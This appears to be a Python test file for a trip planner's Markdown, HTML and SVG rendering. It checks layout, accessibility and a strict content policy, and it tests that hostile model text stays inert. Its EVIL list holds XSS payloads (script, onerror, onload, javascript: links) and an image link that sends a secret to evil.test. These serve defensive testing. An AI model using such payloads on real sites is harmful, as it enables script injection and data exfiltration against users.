"""A trip as Markdown and as a page: what it says, for whom it can be read, and that nothing in it comes alive."""

import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree as ET

import msgspec
import pytest
from markdown_it import MarkdownIt

from handrail import Outcome
from handrail.apps.trips.rendering import Rendered, rendered, trip_of
from handrail.apps.trips.rendering.html import POLICY, page
from handrail.apps.trips.rendering.markdown import escaped, markdown
from handrail.apps.trips.rendering.svg_map import hours_bars, legs_map
from handrail.apps.trips.rendering.words import hours
from handrail.apps.trips.trip import Stop, Trip, TripDay, TripFlight, TripLeg
from handrail.vocab.outcomes import Status

SVG = "{http://www.w3.org/2000/svg}"
TRIP = Trip(
    title="Over Danba",
    summary="Two days.",
    days=(
        TripDay(
            day=1,
            legs=(TripLeg(origin="chengdu", destination="kangding", minutes=219, km=304),),
            stay="kangding",
            sleeping_altitude_m=2560,
            drive_hours=3.65,
            hotel="hotel-kangding-a",
            hotel_name="Kangding town hotel",
            note="Up the gorge.",
        ),
        TripDay(day=2, flight=TripFlight(id="f", origin="kangding", destination="sanya"), stay="sanya", drive_hours=0.0),
    ),
    places={
        "chengdu": Stop(name="Chengdu", latitude=30.66, longitude=104.06),
        "kangding": Stop(name="Kangding", latitude=30.05, longitude=101.97),
        "sanya": Stop(name="Sanya"),
    },
    hours_a_day=6,
    cost_cny=370,
)
EVIL = (
    "![x](https://evil.test/p?d=SECRET)",
    "[go](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![x][ref]\n\n[ref]: https://evil.test/x",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    '"><svg onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "]]></desc><script>alert(1)</script>",
    "https://evil.test www.evil.test a@evil.test",
    "<img src=x one",
)


class Reading(HTMLParser):
    """Tags, attributes and text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def evil(words: str) -> Rendered:
    """A trip that says those words wherever a trip can say anything."""
    days = tuple(msgspec.structs.replace(day, note=words, hotel_name=words, stay=words) for day in TRIP.days)
    stop = Stop(name=words, latitude=1.0, longitude=2.0)
    trip = msgspec.structs.replace(TRIP, title=words, summary=words, days=days, places={"chengdu": stop, words: stop})
    return Rendered(trip, (words,))


def test_markdown_has_a_row_for_each_day() -> None:
    assert markdown(Rendered(TRIP, ("Nobody has confirmed it.",))).splitlines() == [
        "# Over Danba",
        "",
        "Two days.",
        "",
        "> Nobody has confirmed it.",
        "",
        "| Day | Drives | Hours | Night | Altitude |",
        "| --- | --- | --- | --- | --- |",
        "| 1 | Chengdu → Kangding (304 km) | 3 h 39 min | Kangding, Kangding town hotel | 2560 m |",
        "| 2 | flight Kangding → Sanya | 0 h 00 min | Sanya |  |",
        "",
        "At most 6 hours of driving a day.",
        "",
        "Beds and flights: 370 CNY.",
        "",
        "- Day 1: Up the gorge.",
    ]


def test_a_page_says_the_same_and_is_whole() -> None:
    read = Reading(page(Rendered(TRIP, ("Nobody has confirmed it.",))))
    for words in ("Over Danba", "Two days.", "Nobody has confirmed it.", "Chengdu → Kangding (304 km)", "3 h 39 min", "2560 m", "370 CNY"):
        assert words in read.text
    assert read.tags.count("tr") == 3
    assert ("lang", "en") in read.attributes


@pytest.mark.parametrize("picture", [legs_map, hours_bars])
def test_a_picture_has_a_title_and_a_description_in_words(picture: Any) -> None:
    root = ET.fromstring(picture(TRIP))
    title, description = root.find(f"{SVG}title"), root.find(f"{SVG}desc")
    assert title is not None and description is not None
    assert root.get("role") == "img"
    assert (root.get("aria-labelledby"), root.get("aria-describedby")) == (title.get("id"), description.get("id"))
    assert "day 1: " in str(description.text)


def test_the_map_has_a_line_for_each_drive_and_a_name_for_each_place_that_can_be_put_on_it() -> None:
    root = ET.fromstring(legs_map(TRIP))
    assert len(root.findall(f"{SVG}line")) == 1  # nobody knows where Sanya is, so there is no line for the flight
    assert [text.text for text in root.findall(f"{SVG}text")] == ["Chengdu", "Kangding"]
    for circle in root.findall(f"{SVG}circle"):
        assert 0 < float(str(circle.get("cx"))) < 720 and 0 < float(str(circle.get("cy"))) < 440


def test_north_is_up_and_east_is_right() -> None:
    circles = ET.fromstring(legs_map(TRIP)).findall(f"{SVG}circle")
    chengdu, kangding = [(float(str(each.get("cx"))), float(str(each.get("cy")))) for each in circles]
    assert chengdu[0] > kangding[0] and chengdu[1] < kangding[1]


def test_bars_are_as_long_as_the_hours() -> None:
    bars = [float(str(rect.get("width"))) for rect in ET.fromstring(hours_bars(TRIP)).findall(f"{SVG}rect")]
    assert bars[1] == 0
    assert bars[0] == pytest.approx((720 - 70 - 120) * 3.65 / 6, abs=0.1)


def test_one_place_is_a_map_too_and_none_is_no_picture() -> None:
    alone = msgspec.structs.replace(TRIP, days=TRIP.days[:1], places={"kangding": TRIP.places["kangding"]})
    assert legs_map(alone).startswith("<svg")
    nothing = Trip(title="No trip yet", summary="Nothing.")
    assert (legs_map(nothing), hours_bars(nothing)) == ("", "")
    assert "<svg" not in page(Rendered(nothing))
    assert "|" not in markdown(Rendered(nothing))


@pytest.mark.parametrize("words", EVIL)
def test_case_70_no_text_of_a_model_comes_alive_on_the_page(words: str) -> None:
    plain, hostile = Reading(page(Rendered(TRIP, ("x",)))), Reading(page(evil(words)))
    assert set(hostile.tags) <= set(plain.tags)
    assert {"script", "iframe", "img", "a", "object", "link", "base"}.isdisjoint(hostile.tags)
    assert [name for name, _ in hostile.attributes if name.startswith("on") or name in {"href", "src", "srcdoc", "style"}] == []
    assert words in hostile.text


@pytest.mark.parametrize("words", EVIL)
def test_case_70_no_text_of_a_model_comes_alive_in_markdown(words: str) -> None:
    text = markdown(evil(words))
    read = Reading(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text))
    assert set(read.tags) <= {"h1", "p", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"}
    assert " ".join(words.split()) in read.text
    assert re.findall(r"(?<!\\)(?:://|@|www\.)", text) == []  # what some readers make links of by themselves


def test_a_page_may_load_nothing() -> None:
    text = page(Rendered(TRIP))
    assert POLICY.startswith("default-src 'none'; style-src 'unsafe-inline'")
    assert ("content", POLICY) in Reading(text).attributes
    assert re.findall(r"https?://(?!www\.w3\.org/2000/svg)", text) == []


@pytest.mark.parametrize(
    ("words", "shown"),
    [("- a list", r"\- a list"), ("# a heading", r"\# a heading"), ("1. one", r"1\. one"), ("a\nb", "a b"), ("a|b", r"a\|b")],
)
def test_text_stays_text_in_markdown(words: str, shown: str) -> None:
    assert escaped(words) == shown


@pytest.mark.parametrize(("value", "shown"), [(0, "0 h 00 min"), (3.65, "3 h 39 min"), (0.999, "1 h 00 min")])
def test_hours_are_said_in_minutes(value: float, shown: str) -> None:
    assert hours(value) == shown


OUTPUT: dict[str, Any] = msgspec.to_builtins(TRIP)


@pytest.mark.parametrize(
    ("marks", "remarks"),
    [
        ({}, ()),
        (
            {"partial": True, "limit": "TimeLimit(300)"},
            ("It was finished in a hurry (TimeLimit(300)), and may be less than you asked for.",),
        ),
        ({"unconfirmed": True, "unreviewed": True}, ("You have not said yes to it.", "No reviewer has passed it.")),
    ],
)
def test_what_a_trip_is_not_is_said(marks: dict[str, Any], remarks: tuple[str, ...]) -> None:
    assert rendered(Outcome(status=Status.COMPLETED, output=OUTPUT, **marks)).remarks == remarks


def test_the_reasons_of_a_partial_trip_are_said() -> None:
    partial = OUTPUT | {"partial": True, "reasons": ["It has 2 of the 4 days that you wanted."]}
    assert rendered(Outcome(status=Status.COMPLETED, output=partial, partial=True)).remarks == ("It has 2 of the 4 days that you wanted.",)


def test_an_outcome_without_a_trip_is_none() -> None:
    with pytest.raises(ValueError, match="holds no trip"):
        rendered(Outcome(status=Status.FAILED, reason="no model"))
    assert trip_of(OUTPUT) == TRIP
